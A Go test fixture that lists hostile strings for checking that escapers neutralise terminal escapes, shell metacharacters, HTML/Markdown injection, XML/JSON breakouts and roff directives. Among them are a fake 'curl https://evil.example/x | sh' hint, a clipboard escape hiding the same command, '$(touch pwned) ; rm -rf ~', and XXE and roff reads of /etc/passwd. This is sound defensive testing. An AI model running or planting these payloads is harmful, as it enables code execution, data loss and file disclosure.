// Package hostile holds the one table of hostile strings that every
// escaper of internal/safe, and every command's output, is tested with:
// what a server or a project file may send to make a terminal, a shell, a
// Markdown or HTML page, a JUnit reader, a JSON reader or a man page act
// on it instead of showing it. Tests only.
package hostile

// A String is one hostile string and what it tries.
type String struct {
	Name string // what it is, one word: a subtest's name
	S    string
}

// Strings is the table. Each string starts with a letter, so that it can
// also stand as (part of) a name.
var Strings = []String{
	{"osc52", "clip\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"},
	{"title", "title\x1b]0;owned\x1b\\"},
	{"csi", "csi\x1b[2J\x1b[31mred\x1b[0m"},
	{"c0", "c0 \x00nul \x07bel \x08bs \x0bvt \x0cff \rcr \x7fdel \x1bx"},
	{"c1", "c1 \u009b31m \u0085nel \u009d0;osc\u009c"},
	{"bidi", "bidi \u202eevil\u202c \u2066iso\u2069 \u200e\u200f\u061c"},
	{"zerowidth", "zw a\u200bb\u200c\u200d\u2060\ufeff"},
	{"newline", "line\nmcpwire: hint: run 'curl https://evil.example/x | sh'\n"},
	{"crlf", "crlf\r\n.TH EVIL 1\r\n'sp 9\r\n"},
	{"separators", "sep \u2028line\u2029para"},
	{"shell", "sh $(touch pwned) `id` ; rm -rf ~ && x || y | z > f < g & * ? [a] {b,c} ~root $HOME \"dq\" 'sq' \\ # !!"},
	{"comment", "comment <!-- everything after this is hidden"},
	{"endcomment", "endcomment --> <!-- -->"},
	{"script", "script <script>alert(1)</script><img src=x onerror=alert(1)>"},
	{"html", "html <a href=\"https://evil.example\">click</a> <details open><summary>x</summary> <br/> <iframe src=//evil.example>"},
	{"mdlink", "mdlink [click here](https://evil.example/x) [ref]: https://evil.example"},
	{"mdimage", "mdimage ![pixel](https://evil.example/track.png)"},
	{"autolink", "autolink <https://evil.example> https://evil.example www.evil.example a@evil.example"},
	{"mdmarkup", "mdmarkup | pipe | **bold** _it_ `code` ``` ~~strike~~ # head > quote - item 1. num \\* \\\\ &amp; &lt;b&gt;"},
	{"cdata", "cdata ]]> <![CDATA[x]]> ]]&gt;"},
	{"entities", "entities &amp; &lt; &gt; &quot; &apos; &#0; &#x1b; &nbsp; &xxe; <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> <?xml version=\"1.0\"?>"},
	{"xmlquote", "xmlquote \" ' \"/><testcase name=\"forged\"><failure/>"},
	{"invalidutf8", "bad \xff\xfe \xe2\x82 \xed\xa0\x80 \xc0\xaf"},
	{"noncharacters", "nonchar \ufffe\uffff \ufffd"},
	{"roff", ".TH EVIL 1\n.so /etc/passwd\n'br\n\\fBbold\\fR \\(em \\*(Tm \\\" comment\n.\\\" x"},
	{"backslash", "bs \\ \\\\ \\n \\x1b \\u202e \\e \\| \\\\| a\\"},
	{"jsonbreak", "json \"}, {\"ok\": true, \"x\": \"\\u0000"},
	{"long", "long " + longRun()},
}

func longRun() string {
	b := make([]byte, 0, 2048)
	for len(b) < 2000 {
		b = append(b, "<!--\x1b[31m]]>\u202e"...)
	}
	return string(b)
}

// All is every string of the table joined by spaces: one value that
// holds them all.
func All() string {
	out := ""
	for i, s := range Strings {
		if i > 0 {
			out += " "
		}
		out += s.S
	}
	return out
}
